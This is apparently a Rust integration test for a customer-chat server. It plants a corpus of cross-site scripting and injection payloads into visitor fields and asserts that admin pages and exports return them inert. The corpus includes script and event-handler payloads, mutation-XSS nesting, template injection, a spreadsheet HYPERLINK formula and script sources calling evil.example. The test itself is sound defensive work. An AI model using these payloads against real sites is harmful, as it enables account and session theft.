//! What visitors write is text wherever it is shown (row 24): a corpus of attacks in every field that a visitor fills,
//! looked for in everything that the staff can ask for.

use crate::support::{Client, Site, TestServer};
use deskbell::clock::TimeZone;
use deskbell::report::Week;
use deskbell::store::accounts::{AccountName, Role};
use deskbell::web::admin::ENDPOINTS;
use reqwest::header::HeaderMap;
use serde_json::json;

/// Each holds the mark, so that it is found again however it was escaped around it.
const MARK: &str = "xss7";
pub const CORPUS: &[&str] = &[
    "<script>xss7()</script>",
    "<img src=x onerror=xss7()>",
    "\"><svg onload=xss7()>",
    "'><b onmouseover='xss7()'>",
    "</title><script src=//evil.example/xss7></script>",
    "</style><iframe srcdoc='<script>xss7()</script>'>",
    "javascript:xss7()//",
    "<a href=\"java\tscript:xss7()\">x</a>",
    "--><script>xss7()</script><!--",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xss7()&gt;\">",
    "{{constructor.constructor('xss7()')()}}",
    "]]><script>xss7()</script>",
    "\u{2028}</script>\u{ff1c}script\u{ff1e}xss7()",
    "<scr\u{200b}ipt>xss7()</scr\u{200b}ipt>",
    "=HYPERLINK(\"http://evil.example/xss7\")",
    "[click](javascript:xss7()) ![x](https://evil.example/xss7)",
    "`</code><img src=x onerror=xss7()>`",
    "&lt;script&gt;xss7()&lt;/script&gt;",
];

/// Somebody with the highest role.
pub struct Staff {
    token: String,
    http: reqwest::Client,
}

/// An administrator of the server.
pub async fn staff(server: &TestServer) -> Staff {
    let name: AccountName = "lead".parse().unwrap();
    server.state.store.create_account(&name, Role::Admin, 0).await.unwrap();
    let token = server.state.store.create_token(&name, "test", 0).await.unwrap().reveal().to_owned();
    Staff { token, http: reqwest::Client::new() }
}

impl Staff {
    /// What is answered, and how it is to be read.
    pub async fn get(&self, server: &TestServer, path: &str) -> (HeaderMap, String) {
        let response = self.http.get(server.url(path)).bearer_auth(&self.token).send().await.unwrap();
        let headers = response.headers().clone();
        // a workbook is no text; what is in its cells is tested where it is made
        (headers, String::from_utf8_lossy(&response.bytes().await.unwrap()).into_owned())
    }
}

/// Every address that can be read, about this conversation and the running week.
pub fn filled_paths(server: &TestServer, conversation: &str) -> Vec<String> {
    let week = Week::of(server.state.clock.now(), &TimeZone::UTC);
    let mut paths = Vec::new();
    for endpoint in ENDPOINTS.iter().filter(|endpoint| endpoint.method == "GET") {
        let path = format!("/api/v1/admin{}", endpoint.path).replace("{id}", conversation);
        if path.contains("{file}") {
            for form in ["html", "json", "md", "csv", "csv?table=unanswered", "csv?table=questions"] {
                paths.push(path.replace("{file}", &format!("{week}.{form}")));
            }
        } else if path.contains("/answers/") {
            for entry in ["order-status", "delivery-time", "return-how"] {
                paths.push(path.replace("{lang}", "en").replace(conversation, entry));
            }
        } else {
            paths.push(path);
        }
    }
    paths
}

/// Whether a place lies between `<` and `>`.
fn inside_a_tag(html: &str, at: usize) -> bool {
    html[..at].rfind('<').is_some_and(|open| html[..at].rfind('>').is_none_or(|close| close < open))
}

/// Puts every attack into every field that a visitor fills; the conversations that came of it.
pub async fn plant(server: &TestServer) -> Vec<String> {
    let mut conversations = Vec::new();
    for (number, attack) in CORPUS.iter().enumerate() {
        let page = json!({"url": format!("https://shop.example/{attack}"), "title": attack, "referrer": attack});
        let hello = json!({"type": "hello", "v": 1, "lang": attack, "page": page});
        let mut visitor = Client::hello(server.address, hello).await.unwrap();
        let answer = visitor.ask(&format!("where is my order {attack}")).await[2].clone();
        // some ask alike, so that the report puts them together
        visitor.ask(&format!("is there a {attack} in the museum")).await;
        if number % 2 == 0 && answer["body"]["kind"] == "answer" {
            let body = json!({"kind": "feedback", "about": answer["seq"], "helpful": false, "comment": attack});
            visitor.say(body).await;
            visitor.next_of("ack").await;
        }
        visitor.say(json!({"kind": "choice", "id": attack})).await;
        visitor.next_of("ack").await;
        conversations.push(visitor.ready["conversation"].as_str().unwrap().to_owned());
    }
    conversations
}

#[tokio::test]
async fn what_visitors_write_is_text_wherever_it_is_shown() {
    let site = Site::new();
    let server = TestServer::start(site.config()).await;
    let admin = staff(&server).await;
    let conversations = plant(&server).await;
    let (mut seen, mut pages) = (0, 0);
    for conversation in &conversations {
        for path in filled_paths(&server, conversation) {
            let (headers, text) = admin.get(&server, &path).await;
            let header = |name: &str| headers.get(name).map_or("", |value| value.to_str().unwrap());
            assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
            let kind = header("content-type");
            seen += text.matches(MARK).count();
            if kind.starts_with("text/html") {
                pages += 1;
                assert!(header("content-security-policy").contains("sandbox"), "{path}");
                assert!(header("content-disposition").starts_with("attachment"), "{path}");
                for (at, _) in text.match_indices(MARK) {
                    assert!(!inside_a_tag(&text, at), "{path}: {}", &text[at.saturating_sub(40)..at + 20]);
                }
                assert!(!text.contains("<script"), "{path}");
            } else {
                let plain = ["application/json", "application/problem+json", "text/csv", "text/markdown"];
                assert!(plain.iter().any(|plain| kind.starts_with(plain)), "{path} is {kind}");
            }
        }
    }
    assert!(seen > 200 && pages > 0, "only {seen} places and {pages} pages: nothing was shown");
    server.stop().await;
}
